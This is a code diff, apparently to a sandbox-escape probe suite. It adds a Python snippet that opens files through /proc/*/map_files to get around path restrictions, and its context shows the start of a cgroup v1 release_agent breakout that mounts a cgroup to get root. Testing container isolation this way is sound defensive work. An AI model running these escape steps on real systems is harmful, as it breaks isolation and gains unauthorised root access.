@@ -173,6 +173,13 @@ CGROUP_FILES = (
     "        except OSError as error: last = error\n"
     "    if top.count('/') > 5: break"
 )
+MAP_FILES = (
+    # What a process has mapped, opened past every path; a right of the kernel's own is asked for.
+    "import glob, os\n"
+    "for place in glob.glob('/proc/[0-9]*/map_files/*'):\n"
+    "    try: os.close(os.open(place, os.O_RDONLY)); print('gained-it', place); break\n"
+    "    except OSError as error: last = error"
+)
 AGENT = (
     # The classic way out of cgroup v1: a group of one's own, whose agent the kernel runs as root.
     "mkdir -p /tmp/cg; for c in rdma memory pids; do mount -t cgroup -o $c none /tmp/cg && break; "
